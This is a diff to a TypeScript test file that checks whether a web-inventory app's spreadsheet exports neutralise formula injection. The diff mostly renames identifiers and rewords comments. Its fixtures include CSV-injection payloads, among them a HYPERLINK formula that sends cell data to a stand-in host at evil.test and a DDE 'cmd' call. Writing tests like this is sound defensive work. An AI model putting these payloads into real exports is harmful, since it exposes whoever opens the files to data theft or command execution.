@@ -3,15 +3,15 @@ import { categories, nodes, webCategories, webs } from '@kustos/database/tables'
 import { testDatabase } from '@kustos/database/testing'
 import { expect, it } from 'vitest'
 import { createUser, listen, signIn } from '../api-client.ts'
-import { unescaped, unzip } from '../spreadsheet.ts'
+import { unescapeXml, unzip } from '../spreadsheet.ts'
 
 const database = await testDatabase()
 const { db } = database
 const origin = await listen(database)
 await createUser(database, 'staff@kustos.test', ['view webs'])
 
-/** What a spreadsheet, or one that it is saved for, takes for the start of something to reckon or to call. */
-const starts = [
+/** Prefixes that spreadsheet programs interpret as the start of a formula or call. */
+const prefixes = [
   '=',
   '+',
   '-',
@@ -25,10 +25,10 @@ const starts = [
   '=HYPERLINK("http://evil.test?"&A1)',
   "=cmd|'/c calc'!A1",
 ]
-const text = (start: string, field: string) => `${start}1+1 ${field}`
+const buildText = (start: string, field: string) => `${start}1+1 ${field}`
 
-for (const [number, start] of starts.entries()) {
-  const evil = (field: string) => text(start, field)
+for (const [number, start] of prefixes.entries()) {
+  const evil = (field: string) => buildText(start, field)
   const name = [{ fqdn: evil('host') }]
   const [node] = await db
     .insert(nodes)
@@ -87,25 +87,22 @@ for (const [number, start] of starts.entries()) {
 it.each([
   ['webs', '/api/webs/export', webColumns],
   ['tracking', '/api/webs/exportTracking', trackingColumnsAt(0)],
-] as const)(
-  'writes each field of the export of %s as text, whatever it starts with',
-  async (_, path, { sets }) => {
-    const staff = await signIn(origin, 'staff@kustos.test')
-    const answer = await staff.fetch(`${path}?sets=${sets.map((set) => set.key).join(',')}`)
-    expect(answer.status).toBe(200)
-    const archive = Buffer.from(await answer.arrayBuffer())
-    const xml = unzip(archive, 'xl/worksheets/sheet1.xml')
-    expect(xml).not.toMatch(/<f[ >/]|<hyperlink|<oleObject|<legacyDrawing/)
-    // Nothing that would be asked for when the file is opened.
-    for (const part of ['externalLinks', 'connections.xml', 'vbaProject', 'activeX', 'TargetMode="External"'])
-      expect(archive.includes(part)).toBe(false)
-    let evil = 0
-    for (const [cell, attributes = '', content = ''] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
-      const shown = unescaped(content.replace(/<[^>]+>/g, ''))
-      if (!shown.includes('1+1')) continue
-      evil++
-      expect(attributes, cell).toMatch(/\bt="(s|str|inlineStr)"/)
-    }
-    expect(evil).toBeGreaterThan(starts.length * 5)
-  },
-)
+] as const)('writes each field of the export of %s as text', async (_, path, { sets }) => {
+  const staff = await signIn(origin, 'staff@kustos.test')
+  const response = await staff.fetch(`${path}?sets=${sets.map((set) => set.key).join(',')}`)
+  expect(response.status).toBe(200)
+  const archive = Buffer.from(await response.arrayBuffer())
+  const xml = unzip(archive, 'xl/worksheets/sheet1.xml')
+  expect(xml).not.toMatch(/<f[ >/]|<hyperlink|<oleObject|<legacyDrawing/)
+  // Nothing that is requested when the file is opened.
+  for (const part of ['externalLinks', 'connections.xml', 'vbaProject', 'activeX', 'TargetMode="External"'])
+    expect(archive.includes(part)).toBe(false)
+  let formulaCount = 0
+  for (const [cell, attributes = '', content = ''] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
+    const shown = unescapeXml(content.replace(/<[^>]+>/g, ''))
+    if (!shown.includes('1+1')) continue
+    formulaCount++
+    expect(attributes, cell).toMatch(/\bt="(s|str|inlineStr)"/)
+  }
+  expect(formulaCount).toBeGreaterThan(prefixes.length * 5)
+})
